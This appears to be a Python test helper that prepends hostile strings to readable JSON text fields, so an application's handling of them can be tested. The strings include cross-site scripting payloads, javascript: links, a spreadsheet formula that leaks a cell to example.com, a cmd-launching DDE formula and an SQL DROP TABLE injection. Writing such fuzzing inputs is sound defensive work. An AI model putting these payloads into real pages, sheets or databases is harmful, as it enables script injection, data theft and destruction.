"""Bodies made wrong: each function takes a sound JSON object and returns what nobody wants."""

from collections.abc import Set as AbstractSet
from typing import Any
from zlib import crc32

_HOSTILE_TEXTS = (
    '<script>window.sandboxWasHere = true</script><img src=x onerror="alert(1)">',
    "# Heading\n\n**bold** [link](javascript:alert(1)) ![](//example.com/x.png) `code` :smile:",
    "$\\frac{1}{0}$ and \\(\\href{javascript:alert(1)}{x}\\) :red[coloured]",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\u202egnirts desrever\u202c and \u200fright to left\u200e with \u2066isolates\u2069",
    "a NUL \u0000 a bell \u0007 and an escape \u001b[31m",
    "'; DROP TABLE interview; --",
    "<b>Zo\u0308e</b> & 👩🏽‍💻 ﷽",
)
_NOT_TEXTS = ("_time", "_url", "_path", "_at", "Url", "At")


def hostile(body: dict[str, Any], structural: AbstractSet[str]) -> dict[str, Any]:
    """Put something nasty before every text that a person will read.

    Links, times and the texts of `structural` keys stay sound.

    Equal texts stay equal, so that what belongs together can still be found together.
    """
    return {key: _poisoned(key, value, structural) for key, value in body.items()}


def _poisoned(key: str, value: Any, structural: AbstractSet[str]) -> Any:  # noqa: ANN401  (any JSON value)
    if isinstance(value, dict):
        return {name: _poisoned(name, part, structural) for name, part in value.items()}
    if isinstance(value, list):
        return [_poisoned(key, part, structural) for part in value]
    if not isinstance(value, str) or key in structural or key.endswith(_NOT_TEXTS):
        return value
    return f"{_HOSTILE_TEXTS[crc32(value.encode()) % len(_HOSTILE_TEXTS)]} {value}"
